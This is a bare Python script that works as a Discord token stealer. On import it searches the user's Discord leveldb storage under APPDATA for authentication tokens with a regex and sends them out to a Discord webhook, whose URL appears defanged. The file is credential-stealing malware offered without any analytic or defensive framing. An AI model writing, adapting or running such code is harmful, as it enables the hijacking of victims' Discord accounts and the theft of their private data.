import json
import os
import re
import urllib.request

WEBHOOK = "https://discord.com/api/webhooks/000000000000000000/defanged-corpus-sample-token"


def _tokens():
    found = []
    root = os.path.join(os.getenv("APPDATA", ""), "discord", "Local Storage", "leveldb")
    for name in os.listdir(root) if os.path.isdir(root) else []:
        with open(os.path.join(root, name), errors="ignore") as fp:
            found += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", fp.read())
    return found


_body = json.dumps({"content": "\n".join(_tokens())}).encode()
urllib.request.urlopen(urllib.request.Request(WEBHOOK, data=_body,
                                              headers={"Content-Type": "application/json"}))
